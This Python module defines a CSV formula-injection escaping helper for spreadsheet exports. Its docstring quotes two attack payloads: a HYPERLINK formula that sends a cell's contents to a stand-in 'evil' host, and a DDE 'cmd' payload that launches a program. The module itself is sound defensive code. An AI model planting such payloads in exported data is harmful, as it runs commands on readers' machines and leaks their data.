"""CSV formula-injection escaping: the one helper every CSV export uses.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and tab or
carriage return can hide such a start), so a CRM value like ``=HYPERLINK("http://evil/?"&A1)`` or
``@SUM(1+1)*cmd|' /C calc'!A0`` exported as CSV would run on the reader's machine. Such text cells
get a leading ``'`` (OWASP "CSV injection"); plain numbers (``-12.5``, ``+49``) are left alone.
"""

from __future__ import annotations

import re

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$")


def escape_formula(text: str) -> str:
    """``text`` with a leading ``'`` when a spreadsheet would read it as a formula."""
    if text and text.startswith(FORMULA_PREFIXES) and not _NUMBER.match(text):
        return "'" + text
    return text
